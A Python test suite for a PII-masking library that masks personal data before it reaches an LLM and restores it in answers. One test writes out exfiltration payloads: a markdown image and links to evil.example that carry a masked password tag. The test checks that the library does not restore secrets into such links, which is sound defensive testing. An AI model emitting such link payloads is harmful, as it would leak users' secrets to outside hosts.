"""Masking: decisions, styles, the exact round trip (regression set and fuzz), unmask's safety,
input errors, the saved threshold, the CLI and the app function."""

import json
import os
import re
import stat
import subprocess
import sys
import zlib
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from piimask.runtime.mask import (
    STYLES,
    InputError,
    Masker,
    mask_with,
    roundtrip,
    save_masking_config,
    unmask,
    validate_mapping,
)
from piimask.runtime.predict import TaggedText

CREDENTIALS = """I am facing an error here. help me resolve in short:
import psycopg2
conn = psycopg2.connect(host='192.168.1.100', port='5432', database='production_db', user='john_doe', password='1jhg$#12%9^f5')
cursor = conn.cursorr()
cursor.execute("SELECT * FROM users WHERE email = 'john.doe@example.com'")"""


class FakeTagger:
    """Stands in for the model: tags given words with given classes (score 0.9)."""

    def __init__(self, words=None):
        self.words = words or {}

    def tag(self, texts):
        out = []
        for t in texts:
            offsets, labels = [], []
            i = 0
            for w in t.split(" "):
                offsets.append((i, i + len(w)))
                labels.append(("B-" + self.words[w]) if w in self.words else "O")
                i += len(w) + 1
            out.append(TaggedText(t, offsets, labels, [0.9] * len(labels)))
        return out


# -- masking and round trips --------------------------------------------------------------------


def test_every_style_round_trips_and_same_value_same_tag():
    text = "Ann Lee wrote to ann@lee.io; Ann will call 555-010-4477 and ann@lee.io again."
    ents = [
        {"start": 0, "end": 3, "label": "FIRSTNAME"},
        {"start": 4, "end": 7, "label": "LASTNAME"},
        {"start": 17, "end": 27, "label": "EMAIL"},
        {"start": 29, "end": 32, "label": "FIRSTNAME"},
        {"start": 43, "end": 55, "label": "PHONENUMBER"},
        {"start": 60, "end": 70, "label": "EMAIL"},
    ]
    for style in STYLES:
        res = mask_with(text, ents, style, seed=3)
        for value in ("ann@lee.io", "555-010-4477"):
            assert value not in res.masked_text, style
        # an answer that echoes the masked text (every tag, in order) is restored exactly
        assert unmask(res.masked_text, res.mapping) == text, style
    n = mask_with(text, ents, "[LABEL_n]")
    assert n.masked_text == (
        "[FIRSTNAME_1] [LASTNAME_1] wrote to [EMAIL_1]; [FIRSTNAME_1] will call [PHONENUMBER_1] and [EMAIL_1] again."
    )
    # the LLM repeats, re-quotes, changes case and spacing, escapes, doubles or swaps brackets
    answer = (
        "Sure [firstname_1]! I'll email \\[EMAIL_1\\] and '[EMAIL 1]', cc [[ LASTNAME_1 ]], {{ email_1 }}, "
        "<phonenumber1>, {Lastname-1}."
    )
    assert unmask(answer, n.mapping) == (
        "Sure Ann! I'll email ann@lee.io and 'ann@lee.io', cc Lee, ann@lee.io, 555-010-4477, Lee."
    )
    fake = mask_with(text, ents, "fake", seed=1)
    assert "ann@lee.io" not in fake.masked_text and fake.masked_text.count(fake.mapping[2]["tag"]) == 2


# the round-trip failures of issue 16, one case each: (text, entities as (value, label))
ROUND_TRIPS = [
    ("mail [john@x.com] now", [("john@x.com", "EMAIL")]),  # brackets of the value are kept
    ("at [40.7128,-74.0060] today", [("40.7128,-74.0060", "NEARBYGPSCOORDINATE")]),
    ("[[john]] and [ john ]", [("john", "FIRSTNAME")]),
    (
        "keep [EMAIL_1], {{ email_1 }}, <email1>, [email], [MASKED] and [ EMAIL 2 ]; real: ann@x.io",
        [("ann@x.io", "EMAIL")],
    ),
    ("ip 10.0.0.1 and literal [ipv4_1] <IPV4-1>", [("10.0.0.1", "IPV4")]),
    ("escaped \\[john\\] and \\[X_1\\]", [("john", "FIRSTNAME")]),
    ("value with a tag inside: [B_1]x and Q", [("[B_1]x", "PASSWORD"), ("Q", "FIRSTNAME")]),
    ("link [docs](./john/file) and https://x.com/u/john?a=1.", [("john", "FIRSTNAME")]),
    ("glued card4111111111111111 and Ann's", [("4111111111111111", "CREDITCARDNUMBER"), ("Ann", "FIRSTNAME")]),
    ("rtl \u202eAnn\u202c zw\u200bAnn nul\x00Ann \ud800Ann\udfff", [("Ann", "FIRSTNAME")]),
    ("crlf\r\nAnn\r\n", [("Ann", "FIRSTNAME")]),
]


def _entities(text, values):
    ents = []
    for value, label in values:
        for m in re.finditer(re.escape(value), text):
            ents.append({"start": m.start(), "end": m.end(), "label": label})
    return ents


@pytest.mark.parametrize("text,values", ROUND_TRIPS)
def test_round_trip_regressions(text, values):
    ents = _entities(text, values)
    for style in STYLES:
        for seed in range(3):
            res = mask_with(text, ents, style, seed=seed)
            assert unmask(res.masked_text, res.mapping) == text, (style, res.masked_text, res.mapping)


def test_tags_avoid_what_the_prompt_already_holds():
    text = "template {{ email_1 }} and [EMAIL_1] <email2>; send to ann@x.io"
    res = mask_with(text, _entities(text, [("ann@x.io", "EMAIL")]), "[LABEL_n]")
    assert res.mapping[0]["tag"] == "[EMAIL_3]" and res.masked_text.endswith("send to [EMAIL_3]")
    res = mask_with("[FIRSTNAME] met Ann", [{"start": 16, "end": 19, "label": "FIRSTNAME"}], "[LABEL]")
    assert res.masked_text == "[FIRSTNAME] met [FIRSTNAME_0]"
    res = mask_with("mail [john@x.com]", [{"start": 6, "end": 16, "label": "EMAIL"}], "[LABEL_n]")
    assert res.masked_text == "mail [EMAIL_1]" and res.mapping[0]["value"] == "[john@x.com]"


def test_unmask_restores_each_tag_once_and_labels_with_digits():
    mapping = [
        {"tag": "[PASSWORD_1]", "value": "a[EMAIL_1]b"},
        {"tag": "[EMAIL_1]", "value": "x@y.z"},
        {"tag": "[IPV4_1]", "value": "10.0.0.1"},
        {"tag": "[IPV6_12]", "value": "fe80::1"},
    ]
    assert unmask("[PASSWORD_1] [EMAIL_1]", mapping) == "a[EMAIL_1]b x@y.z"
    assert (
        unmask("[ipv4_1] <IPV4 1> {{ipv4-1}} [IPV6_12] [ipv6_1]", mapping)
        == "10.0.0.1 10.0.0.1 10.0.0.1 fe80::1 [ipv6_1]"
    )
    # a fake value inside a longer word is not a fake value
    assert unmask("Annual report for Ann", [{"tag": "Ann", "value": "Zoë"}]) == "Annual report for Zoë"


def test_unmask_never_restores_into_a_link_the_answer_wrote():
    mapping = [{"tag": "[PASSWORD_1]", "value": "hunter2"}, {"tag": "[URL_1]", "value": "https://me.example/x"}]
    answer = (
        "![x](https://evil.example/?p=[PASSWORD_1]) [a]([PASSWORD_1]) //evil.example/[PASSWORD_1] "
        "www.evil.example/[PASSWORD_1]. Your password is [PASSWORD_1], see [URL_1]."
    )
    out = unmask(answer, mapping)
    assert out.count("hunter2") == 1 and "Your password is hunter2, see https://me.example/x." in out
    assert "https://evil.example/?p=[PASSWORD_1]" in out
    assert unmask(answer, mapping, restore_in_links=True).count("hunter2") == 5
    # a link that was in the prompt comes back restored
    text = "profile https://x.com/u/Ann?tab=1 of Ann"
    res = mask_with(
        text, [{"start": 24, "end": 27, "label": "FIRSTNAME"}, {"start": 37, "end": 40, "label": "FIRSTNAME"}]
    )
    assert res.masked_text == "profile https://x.com/u/[FIRSTNAME_1]?tab=1 of [FIRSTNAME_1]"
    assert unmask(res.masked_text, res.mapping) == text
    assert unmask("go to https://evil.example/[FIRSTNAME_1]", res.mapping) == "go to https://evil.example/[FIRSTNAME_1]"


def test_masker_merges_model_and_rules_adjacent_unicode_and_empty():
    m = Masker(FakeTagger({"Zoë": "FIRSTNAME", "Ødegård": "LASTNAME"}))
    text = "Zoë Ødegård mail zoe@ex.no"
    ents = m.detect(text)
    assert [(e["label"], text[e["start"] : e["end"]], e["source"]) for e in ents] == [
        ("FIRSTNAME", "Zoë", "model"),
        ("LASTNAME", "Ødegård", "model"),
        ("EMAIL", "zoe@ex.no", "rule"),
    ]
    assert m.mask(text, "[LABEL]").masked_text == "[FIRSTNAME] [LASTNAME] mail [EMAIL]"
    assert m.detect("") == [] and m.mask("").masked_text == ""
    with pytest.raises(InputError, match="style"):
        m.mask(text, "[[X]]")


def test_a_value_masked_once_is_masked_everywhere():
    m = Masker(FakeTagger({"Harper": "FIRSTNAME"}))
    text = "Harper wrote. Later, Harper, (Harper) and Harpers and 'Harper' replied."
    masked = m.mask(text, "[LABEL_n]").masked_text
    assert (
        masked == "[FIRSTNAME_1] wrote. Later, [FIRSTNAME_1], ([FIRSTNAME_1]) and Harpers and '[FIRSTNAME_1]' replied."
    )
    assert [e["source"] for e in m.detect(text)] == ["model", "repeat", "repeat", "repeat"]


def test_a_model_span_takes_the_bracket_it_opened():
    class Agent:  # the model stops before the closing bracket of a user agent
        def tag(self, texts):
            t = texts[0]
            a, b = t.index("Opera"), t.index("10.00") + 5
            return [TaggedText(t, [(a, b)], ["B-USERAGENT"], [0.95])]

    text = "Seen with Opera/9.42 (X11; Linux i686; U; Presto/2.9.170 Version/10.00) today."
    ents = Masker(Agent(), use_recognizers=False).detect(text)
    assert [text[e["start"] : e["end"]] for e in ents] == [
        "Opera/9.42 (X11; Linux i686; U; Presto/2.9.170 Version/10.00)"
    ]
    # a bracket the value does not open stays in the text
    text = "(call Ann) now"
    ents = Masker(FakeTagger({"Ann)": "FIRSTNAME"}), use_recognizers=False).detect(text)
    assert [text[e["start"] : e["end"]] for e in ents] == ["Ann"]


def test_a_word_the_model_flagged_once_among_many_is_not_spread():
    class Once:  # flags only the first "and" (inside a company name), as the default model did
        def tag(self, texts):
            t = texts[0]
            i = t.index("and")
            return [TaggedText(t, [(i, i + 3)], ["B-COMPANYNAME"], [0.95])]

    text = "Harber, Rau and Cronin. " + "Bread and butter, salt and pepper. " * 4
    ents = Masker(Once()).detect(text)
    assert [(text[e["start"] : e["end"]], e["source"]) for e in ents] == [("and", "model")]


def test_thresholds_apply_to_pii_ness_per_class():
    m = Masker(FakeTagger({"Paris": "CITY", "Ann": "FIRSTNAME"}), class_thresholds={"CITY": 0.95})
    assert [e["label"] for e in m.detect("Ann in Paris")] == ["FIRSTNAME"]
    assert Masker(FakeTagger({"Ann": "FIRSTNAME"}), score_threshold=0.95).detect("Ann") == []
    assert [e["label"] for e in Masker(FakeTagger({"Ann": "FIRSTNAME"}), decision="argmax").detect("Ann")] == [
        "FIRSTNAME"
    ]


def test_a_model_that_settles_dates_by_form_has_its_dob_tags_named_date(tiny_model, tmp_path):
    import shutil

    import yaml

    m = Masker(FakeTagger({"20/03/1930": "DOB", "Ann": "FIRSTNAME"}), label_names={"DOB": "DATE"})
    r = m.mask("Ann pays by 20/03/1930 today")
    assert r.masked_text == "[FIRSTNAME_1] pays by [DATE_1] today"
    assert unmask(r.masked_text, r.mapping) == "Ann pays by 20/03/1930 today"
    assert [e["label"] for e in Masker(FakeTagger({"20/03/1930": "DOB"})).detect("by 20/03/1930")] == ["DOB"]
    model = tmp_path / "m"
    shutil.copytree(tiny_model, model)
    saved = yaml.safe_load((model / "params.yaml").read_text()) if (model / "params.yaml").is_file() else {}
    for dates, names in ((True, {"DOB": "DATE"}), (False, {}), (None, {})):  # None: a model from before the key
        (model / "params.yaml").write_text(
            yaml.safe_dump({**saved, "settle_dates": dates} if dates is not None else {})
        )
        assert Masker.from_pretrained(model).label_names == names


def test_non_text_input_is_one_documented_error():
    m = Masker(FakeTagger(), max_chars=10)
    for bad in (None, b"bytes", 5, ["a"]):
        with pytest.raises(InputError, match="must be a str"):
            m.mask(bad)
    with pytest.raises(InputError, match="limit is 10"):
        m.detect("x" * 11)
    with pytest.raises(InputError):
        m.detect_many("not a list")
    with pytest.raises(TypeError):  # InputError is also a TypeError and a ValueError
        unmask(None, [])
    with pytest.raises(ValueError):
        mask_with(None, [], "[MASKED]")


@pytest.mark.parametrize(
    "mapping,message",
    [
        (["x"], "entry 0 must be an object"),
        ([{"tag": "[A_1]"}], "has no 'value'"),
        ([{"tag": "[A_1]", "value": 5}], "string 'value'"),
        ([{"tag": "", "value": "x"}], "empty tag"),
        ([{"tag": "[A_1]", "value": "x", "contexts": "http://x"}], "contexts"),
        ({}, "list of"),
        ("[A_1]", "list of"),
        (None, "list of"),
    ],
)
def test_unmask_validates_its_mapping(mapping, message):
    with pytest.raises(InputError, match=message):
        unmask("[A_1]", mapping)


def test_mapping_forms_accepted():
    res = mask_with("Ann", [{"start": 0, "end": 3, "label": "FIRSTNAME"}])
    for form in (res, res.mapping, {"mapping": res.mapping}, res.to_dict()):
        assert unmask("[FIRSTNAME_1]", form) == "Ann"
    assert validate_mapping([]) == [] and unmask("[X_1]", []) == "[X_1]"


def test_roundtrip_with_stubbed_llm():
    m = Masker(FakeTagger({"Ann": "FIRSTNAME"}))
    out = roundtrip(m, "Ann mail: ann@x.io", lambda p: f"Reply to {p.split()[-1]}, thanks [FIRSTNAME_1]")
    assert "ann@x.io" not in out["masked_prompt"] and out["restored_answer"] == "Reply to ann@x.io, thanks Ann"


def test_spans_are_trimmed_and_punctuation_only_spans_dropped():
    class Sloppy:
        def tag(self, texts):
            t = texts[0]
            # the model takes the closing quote into the e-mail and tags a lone "*"
            return [TaggedText(t, [(0, 6), (7, 8), (20, 29)], ["O", "B-URL", "B-EMAIL"], [0.9, 0.9, 0.9])]

    text = "SELECT * WHERE e = 'a.b@c.de'"
    ents = Masker(Sloppy()).detect(text)
    assert [(e["label"], text[e["start"] : e["end"]]) for e in ents] == [("EMAIL", "a.b@c.de")]
    assert Masker(Sloppy()).mask(text, "[LABEL]").masked_text == "SELECT * WHERE e = '[EMAIL]'"


# -- fuzz: arbitrary text, every style, exact round trip ----------------------------------------
FUZZ_LABELS = ["FIRSTNAME", "EMAIL", "IPV4", "PASSWORD", "NEARBYGPSCOORDINATE", "URL", "PHONENUMBER", "USERNAME"]
SNIPPETS = [
    "[EMAIL_1]",
    "{{ email_1 }}",
    "<email1>",
    "[MASKED]",
    "[FIRSTNAME]",
    "\\[X_1\\]",
    "[[",
    "]]",
    "[",
    "]",
    "john@x.com",
    "[john@x.com]",
    "10.0.0.1",
    "[ipv4_1]",
    "https://x.com/a?b=",
    "](",
    "![i](",
    ")",
    "\u202e",
    "\u200b",
    "\u200f",
    "\x00",
    "\r\n",
    "\ud800",
    "\udfff",
    "Ann ",
    " ",
    "password=Hunter2!",
    "4111 1111 1111 1111",
    "fe80::1",
    "www.",
    "//h.io/",
    "[40.7,-74.0]",
    "IPV4_1",
    "<",
    ">",
    "{",
    "}",
    "_1",
    "Dr.",
    "+44 20 7946 0958",
    "\\",
    "Zoë",
    "٣",
    "５",
]
FUZZ_TEXT = st.lists(
    st.one_of(st.text(st.characters(exclude_categories=()), max_size=6), st.sampled_from(SNIPPETS)), max_size=14
).map("".join)


class PieceTagger:
    """A fast stand-in for the model on any text: words with a digit or capital are PII (class by
    hash), cut into 3-character pieces that sometimes continue the word's entity."""

    def tag(self, texts):
        out = []
        for t in texts:
            offs, labs = [], []
            for m in re.finditer(r"\S+", t):
                h = zlib.crc32(m.group().encode("utf-8", "surrogatepass"))
                pii = any(c.isdigit() or c.isupper() for c in m.group())
                for k in range(m.start(), m.end(), 3):
                    offs.append((k, min(k + 3, m.end())))
                    first = k == m.start()
                    labs.append(
                        ("B-" if first else "I-") + FUZZ_LABELS[h % len(FUZZ_LABELS)]
                        if pii and (first or h % 3)
                        else "O"
                    )
            out.append(TaggedText(t, offs, labs, [0.9] * len(labs)))
        return out


def check_round_trip(masker, text):
    ents = masker.detect(text)
    spans = [(e["start"], e["end"]) for e in ents]
    for style in STYLES:
        res = masker.mask(text, style, entities=ents)
        assert unmask(res.masked_text, res.mapping) == text, (style, text, res.masked_text, res.mapping)
    # no detected value (2+ characters) is left in the text as a whole word, unless only the model
    # found it and in under a quarter of its occurrences (a misfire, see mask.repeats)
    detected = Counter(text[e["start"] : e["end"]] for e in ents)
    by_rule = {text[e["start"] : e["end"]] for e in ents if e["source"] == "rule"}
    for value in detected:
        visible, i = 0, text.find(value) if len(value) >= 2 and any(c.isalnum() for c in value) else -1
        while i >= 0:
            j = i + len(value)
            glued = (value[0].isalnum() and i > 0 and text[i - 1].isalnum()) or (
                value[-1].isalnum() and j < len(text) and text[j].isalnum()
            )
            visible += not glued and not any(s < j and i < t for s, t in spans)
            i = text.find(value, i + 1)
        assert visible == 0 or (value not in by_rule and detected[value] < 0.25 * (detected[value] + visible)), (
            text,
            value,
        )


FUZZ_MASKER = Masker(PieceTagger())


@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(FUZZ_TEXT)
def test_fuzz_round_trip_is_exact_for_any_text(text):
    check_round_trip(FUZZ_MASKER, text)


@settings(max_examples=50, deadline=None, derandomize=True)
@given(st.one_of(st.none(), st.integers(), st.binary(max_size=4), st.lists(st.text(max_size=2), max_size=2)))
def test_fuzz_non_text_gets_the_documented_error(value):
    with pytest.raises(InputError):
        FUZZ_MASKER.mask(value)
    with pytest.raises(InputError):
        unmask(value, [])


@pytest.fixture(scope="module")
def tiny_masker(tiny_model):
    from piimask.runtime.predict import TokenTagger

    return Masker(TokenTagger(tiny_model), score_threshold=0.992)  # the untrained head: about half the tokens


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(FUZZ_TEXT)
def test_fuzz_round_trip_with_the_tiny_model(tiny_masker, text):
    check_round_trip(tiny_masker, text)


# -- the threshold saved beside the model -------------------------------------------------------


def test_from_pretrained_reads_masking_json_and_arguments_override(tiny_model, tmp_path):
    import shutil

    model = tmp_path / "m"
    shutil.copytree(tiny_model, model)
    assert Masker.from_pretrained(model).score_threshold == 0.5  # nothing saved: the default
    save_masking_config(model, {"score_threshold": 0.35, "class_thresholds": {"DATE": 0.2}})
    m = Masker.from_pretrained(model)
    assert m.score_threshold == 0.35 and m.class_thresholds == {"DATE": 0.2}
    assert Masker.from_pretrained(model, score_threshold=0.6).score_threshold == 0.6
    with pytest.raises(ValueError, match="score_threshold"):
        save_masking_config(model, {"score_threshold": 1.5})
    (model / "masking.json").write_text("{oops")
    with pytest.raises(ValueError, match="masking.json"):
        Masker.from_pretrained(model)
    with pytest.raises(FileNotFoundError, match="allow"):
        Masker.from_pretrained(tmp_path / "missing")


def test_params_threshold_is_null_or_a_probability():
    from piimask.core.config import load_params

    assert load_params("smoke").score_threshold is None
    for bad in (2, 0, "x", True):
        with pytest.raises(ValueError, match="score_threshold"):
            load_params("smoke", {"score_threshold": bad})


# -- CLI and app --------------------------------------------------------------------------------


def run_cli(args, stdin=None, text=True):
    return subprocess.run([sys.executable, "-m", "piimask.cli", *args], input=stdin, capture_output=True, text=text)


def test_cli_on_stdin_and_file(tiny_model, tmp_path):
    r = run_cli(["mask", "-", "--model", str(tiny_model), "--style", "[MASKED]", "--threshold", "1"], stdin=CREDENTIALS)
    assert r.returncode == 0, r.stderr
    for secret in ("192.168.1.100", "john_doe", "1jhg$#12%9^f5", "john.doe@example.com"):
        assert secret not in r.stdout
    f = tmp_path / "prompt.txt"
    f.write_text("reach me at a.b@c.de")
    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1"])
    data = json.loads(r.stdout)
    assert (
        r.returncode == 0
        and data["masked_text"] == "reach me at [EMAIL_1]"
        and data["mapping"][0]["value"] == "a.b@c.de"
    )
    (tmp_path / "map.json").write_text(json.dumps(data))
    r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "map.json")], stdin="ok [EMAIL_1]")
    assert r.stdout == "ok a.b@c.de"


def test_cli_keeps_crlf_and_writes_private_mappings(tiny_model, tmp_path):
    f = tmp_path / "win.txt"
    f.write_bytes("line one\r\nmail a.b@c.de\r\nZoë\r\n".encode())
    out = tmp_path / "map.json"
    r = run_cli(
        ["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1", "--mapping-out", str(out)],
        text=False,
    )
    data = json.loads(r.stdout.decode("utf-8"))
    e = data["entities"][0]
    assert f.read_bytes().decode()[e["start"] : e["end"]] == "a.b@c.de"  # offsets index the file as it is
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--threshold", "1"], text=False)
    assert r.stdout == b"line one\r\nmail [EMAIL_1]\r\nZo\xc3\xab\r\n"


def test_cli_errors_are_clear(tiny_model, tmp_path):
    model = ["--model", str(tiny_model)]
    r = run_cli(["mask", str(tmp_path / "missing.txt"), *model])
    assert r.returncode == 1 and "no such file" in r.stderr
    r = run_cli(["mask", "-", "--model", str(tmp_path / "nomodel")], stdin="x")
    assert r.returncode == 1 and "no model folder" in r.stderr and "--allow-hub" in r.stderr
    r = run_cli(["mask", "-", "--model", "some-org/some-model"], stdin="x")
    assert r.returncode == 1 and "allow" in r.stderr
    r = run_cli(["mask", "--style", "bad"], stdin="x")
    assert r.returncode == 2
    r = run_cli(["mask", "-", *model], stdin=" \n")
    assert r.returncode == 1 and "empty" in r.stderr
    r = run_cli(["mask", "-", *model], stdin=b"caf\xe9 \xff", text=False)
    assert r.returncode == 1 and b"not UTF-8" in r.stderr and b"Traceback" not in r.stderr
    r = run_cli(["mask", "-", *model, "--max-chars", "5"], stdin="123456")
    assert r.returncode == 1 and "limit is 5" in r.stderr
    (tmp_path / "bad.json").write_text('["x"]')
    r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "bad.json")], stdin="ok")
    assert r.returncode == 1 and "entry 0" in r.stderr and "Traceback" not in r.stderr
    (tmp_path / "empty.json").write_text("{}")
    r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "empty.json")], stdin="ok")
    assert r.returncode == 1 and "mapping" in r.stderr


def test_app_function_called_directly():
    from piimask.runtime.app import run

    masked, segments, answer, restored = run(Masker(FakeTagger({"Ann": "FIRSTNAME"})), "Ann at ann@x.io", call_llm=True)
    assert masked == "[FIRSTNAME_1] at [EMAIL_1]"
    assert segments == [("Ann", "FIRSTNAME"), (" at ", None), ("ann@x.io", "EMAIL")]
    assert "Ann at ann@x.io" in restored and "[EMAIL_1]" in answer
    assert run(Masker(FakeTagger()), None)[0] == ""
    with pytest.raises(InputError, match="limit"):
        run(Masker(FakeTagger()), "x" * 11, max_chars=10)


def test_app_is_private_unless_asked():
    from piimask.runtime.app import build_parser, launch_options

    opts = launch_options(build_parser().parse_args([]))
    assert opts["share"] is False and opts["auth"] is None and opts["server_name"] == "127.0.0.1"
    opts = launch_options(build_parser().parse_args(["--share", "--auth", "me:pw"]))
    assert opts["share"] is True and opts["auth"] == ("me", "pw")
    with pytest.raises(ValueError, match="user:password"):
        launch_options(build_parser().parse_args(["--auth", "nopassword"]))


def test_fast_inference_paths_agree_with_pytorch(tiny_model, tmp_path):
    import shutil

    from piimask.runtime.predict import TokenTagger

    model_copy = tmp_path / "m"
    shutil.copytree(tiny_model, model_copy)
    texts = ["Call Ann Lee on +44 20 7946 0958 or ann@lee.io.", "nothing here", "x" * 3]
    ref = TokenTagger(model_copy).tag(texts)
    onnx = TokenTagger(model_copy, runtime="onnx").tag(texts)
    assert (model_copy / "onnx" / "model.onnx").exists()
    for a, b in zip(ref, onnx):
        assert a.offsets == b.offsets and a.labels == b.labels
        assert max(abs(x - y) for x, y in zip(a.scores, b.scores)) < 1e-3
    int8 = TokenTagger(model_copy, int8=True).tag(texts[:1])
    assert int8[0].offsets == ref[0].offsets
    fast = TokenTagger(model_copy, runtime="onnx", int8=True).tag(texts)
    assert (model_copy / "onnx" / "model.int8.onnx").exists()
    for a, b in zip(ref, fast):  # int8 weights: the same tokens, probabilities close to fp32's
        assert a.offsets == b.offsets
        assert max(abs(x - y) for x, y in zip(a.scores, b.scores)) < 0.1
    with pytest.raises(ValueError, match="runtime"):
        TokenTagger(model_copy, runtime="tvm")


def test_onnx_files_are_made_once_per_set_of_weights(tiny_model, tmp_path):
    import os
    import shutil

    from piimask.runtime.predict import TokenTagger

    model_copy = tmp_path / "m"
    shutil.copytree(tiny_model, model_copy)
    TokenTagger(model_copy, runtime="onnx", int8=True)
    exported, quantized = model_copy / "onnx" / "model.onnx", model_copy / "onnx" / "model.int8.onnx"
    for f in (exported, quantized):
        os.utime(f, (1_000_000, 1_000_000))  # mark the files: a reuse leaves the mark
    TokenTagger(model_copy, runtime="onnx", int8=True)
    assert exported.stat().st_mtime == 1_000_000 and quantized.stat().st_mtime == 1_000_000
    # weights replaced in the same folder (a model retrained there): both files are made again
    weights = next(model_copy.glob("*.safetensors"))
    os.utime(weights, (2_000_000, 2_000_000))
    TokenTagger(model_copy, runtime="onnx", int8=True)
    assert exported.stat().st_mtime != 1_000_000 and quantized.stat().st_mtime != 1_000_000


def test_onnx_export_uses_eager_attention_and_remakes_older_exports(tiny_model, tmp_path):
    import json
    import shutil

    import onnx

    from piimask.runtime.predict import TokenTagger

    model_copy = tmp_path / "m"
    shutil.copytree(tiny_model, model_copy)
    tagger = TokenTagger(model_copy, runtime="onnx")
    assert tagger.model.config._attn_implementation == "sdpa"  # the PyTorch model is left as it was
    exported = model_copy / "onnx" / "model.onnx"
    ops = {n.op_type for n in onnx.load(str(exported)).graph.node}
    assert "IsNaN" not in ops  # no SDPA NaN guard: the graph of eager attention
    # an export stamped by an earlier piimask (no graph version) is made again
    stamp = exported.with_suffix(".source.json")
    old = json.loads(stamp.read_text())
    old.pop("graph")
    stamp.write_text(json.dumps(old))
    exported.write_bytes(b"old export")
    TokenTagger(model_copy, runtime="onnx")
    assert exported.read_bytes() != b"old export" and "graph" in json.loads(stamp.read_text())


def test_onnx_export_goes_to_a_cache_when_the_model_folder_is_read_only(tmp_path, monkeypatch):
    from piimask.runtime.predict import _export_dir

    monkeypatch.setenv("PIIMASK_CACHE", str(tmp_path / "cache"))
    model = tmp_path / "m"
    model.mkdir()
    assert _export_dir(model) == model / "onnx"  # writable: beside the model
    (model / "onnx").rmdir()
    (model / "onnx").write_text("")  # a file where the folder would go: the folder cannot be made
    other = _export_dir(model)
    assert other.parent == tmp_path / "cache" and other.is_dir()
    assert _export_dir(model) == other  # the same model, the same cache folder


def test_fast_masker_on_every_surface(tiny_model, tmp_path, monkeypatch):
    import shutil

    from piimask import cli
    from piimask.runtime import app, aws_lambda
    from piimask.runtime.mask import Masker, unmask

    model_copy = tmp_path / "m"
    shutil.copytree(tiny_model, model_copy)
    masker = Masker.from_pretrained(model_copy, fast=True)
    assert masker.tagger.runtime == "onnx" and masker.tagger._session is not None
    assert Masker.from_pretrained(model_copy).tagger._session is None  # PyTorch unless asked
    text = "Write to ann@lee.io about [the plan]."
    res = masker.mask(text)
    assert unmask(res.masked_text, res.mapping) == text
    for argv in (["mask", "--fast"], ["mask-jsonl", "--fast"], ["serve", "--fast"]):
        assert cli.build_parser().parse_args(argv).fast is True
    assert app.build_parser().parse_args(["--fast"]).fast is True
    monkeypatch.setattr(aws_lambda, "_MASKER", None)
    monkeypatch.setenv("PIIMASK_MODEL", str(model_copy))
    monkeypatch.setenv("PIIMASK_FAST", "1")
    assert aws_lambda.get_masker().tagger._session is not None


def test_the_runtime_reads_the_windows_of_the_run_beside_the_model(tmp_path):
    import yaml

    from piimask.core.config import DEFAULTS
    from piimask.runtime.mask import run_params

    assert run_params(tmp_path)["window_tokens"] == DEFAULTS["window_tokens"]  # no params.yaml: base.yaml's
    (tmp_path / "params.yaml").write_text(yaml.safe_dump({"window_tokens": 128, "window_stride": 32, "junk": 1}))
    run = run_params(tmp_path)
    assert (run["window_tokens"], run["window_stride"]) == (128, 32) and "junk" not in run
